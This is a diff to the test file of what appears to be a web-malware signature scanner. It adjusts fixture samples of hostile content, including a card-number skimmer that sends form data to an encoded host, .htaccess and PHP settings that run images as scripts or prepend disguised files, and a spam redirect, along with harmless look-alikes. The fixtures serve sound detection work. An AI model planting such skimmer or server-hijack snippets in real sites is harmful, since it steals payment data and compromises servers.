@@ -27,13 +27,6 @@ FITS = {
         b"?><textarea name=emaillist></textarea>"
     ),
     "php_database_page": b"<?php mysql_connect($_POST['host'], $u, $p); mysql_query($q); ?><form></form>",
-    "htaccess_runs_pictures": b"AddHandler application/x-httpd-php .jpg .png\n",
-    "settings_prepend_script": b"auto_prepend_file = wordfence-waf.php\n",
-    "settings_prepend_disguised_script": b"php_value auto_prepend_file /var/www/site/wp-content/uploads/logo.ico\n",
-    "htaccess_sends_searchers_away": (
-        b"RewriteEngine On\nRewriteCond %{HTTP_REFERER} .*google.* [OR]\n"
-        b"RewriteRule ^.*$ http://pills.example/ [R,L]\n"
-    ),
     "skimmer_of_payment_data": (
         b"document.addEventListener('submit', function () { var n = document.querySelector('[name=cc_number]').value;"
         b"new Image().src = atob('aHR0cHM6Ly9leGFtcGxlLmNvbS8=') + n; });"
@@ -63,16 +56,11 @@ def test_rule_fits_what_its_family_does(rule: str, content: bytes) -> None:
 HARMLESS = {
     "a contact form": b"<?php mail($to, $_POST['subject'], $_POST['text'], 'Reply-To: x'); ?><textarea></textarea>",
     "a system information class": b"<?php\nclass Info {\n" + CONTROL_PAGE.removeprefix(b"<?php") + b"}",
-    "a handler for scripts": b"AddHandler application/x-httpd-php .php .php8\n",
-    "a redirect to https": (
-        b"RewriteCond %{HTTP_USER_AGENT} !googlebot\nRewriteRule ^(.*)$ https://%{HTTP_HOST}/$1 [R=301,L]\n"
-    ),
     "a payment form's own script": (
         b"form.addEventListener('submit', function () { fetch('/pay', {body: form.cc_number.value}); });"
     ),
     "a loader of a plain address": b"var s = document.createElement('script'); s.src = 'https://www.example.com/a.js';",
     "a link for screen readers": b'<a style="left:-9999px" href="#content">Skip to content</a>',
-    "a commented setting": b"; auto_prepend_file =\n",
 }
 
 
@@ -84,9 +72,9 @@ def test_no_rule_fits_what_is_harmless(content: bytes) -> None:
 
 def test_match_names_the_line() -> None:
     """A reader opens the file where it is."""
-    (match,) = SIGNATURES.matches(b"# one\n# two\nAddHandler application/x-httpd-php .jpg\n")
+    (match,) = SIGNATURES.matches(b"// one\n// two\neval(atob('YQ=='));\n")
 
-    assert match.verdict is FindingClass.CONFIRMED
+    assert match.verdict is FindingClass.SUSPICIOUS
     assert match.line == 3
 
 
